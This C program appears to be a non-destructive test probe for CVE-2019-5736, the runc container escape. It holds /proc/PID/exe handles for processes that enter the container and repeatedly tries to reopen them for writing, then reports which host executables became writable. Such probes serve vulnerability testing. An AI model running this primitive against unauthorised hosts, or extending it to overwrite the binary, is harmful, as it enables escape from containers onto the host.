/* The attack of CVE-2019-5736: hold /proc/PID/exe of whoever comes into this container, and reopen it for writing.
 *
 * It never writes. Until the file /stop appears it holds every executable that it has not seen yet and tries, again
 * and again, to open it O_WRONLY. Then it prints "held N" and "writable DEVICE:INODE" for each success on a file
 * that is none of the container's own (/bin/busybox, /grab).
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#define MOST 512

static struct held { int fd; struct stat is; int writable; } held[MOST];
static int count;
static struct stat own[2];

static int is_known(const struct stat *is)
{
    for (int i = 0; i < 2; i++)
        if (is->st_dev == own[i].st_dev && is->st_ino == own[i].st_ino)
            return 1;
    for (int i = 0; i < count; i++)
        if (is->st_dev == held[i].is.st_dev && is->st_ino == held[i].is.st_ino)
            return 1;
    return 0;
}

static void hold(const char *pid)
{
    char path[64];
    struct stat is;
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    if (fstat(fd, &is) || is_known(&is) || count == MOST) {
        close(fd);
        return;
    }
    held[count].fd = fd;
    held[count++].is = is;
}

static void reopen(struct held *one)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", one->fd);
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    one->writable = 1;
    close(fd);
}

int main(void)
{
    stat("/bin/busybox", &own[0]);
    stat("/proc/self/exe", &own[1]);
    close(open("/ready", O_CREAT | O_WRONLY, 0644));
    do {
        DIR *proc = opendir("/proc");
        for (struct dirent *entry; (entry = readdir(proc));)
            if (isdigit(entry->d_name[0]))
                hold(entry->d_name);
        closedir(proc);
        for (int i = 0; i < count; i++)
            reopen(&held[i]);
    } while (access("/stop", F_OK));
    FILE *report = fopen("/report", "w");
    fprintf(report, "held %d\n", count);
    for (int i = 0; i < count; i++)
        if (held[i].writable)
            fprintf(report, "writable %d:%d:%lu\n", major(held[i].is.st_dev), minor(held[i].is.st_dev), held[i].is.st_ino);
    fclose(report);
    return 0;
}
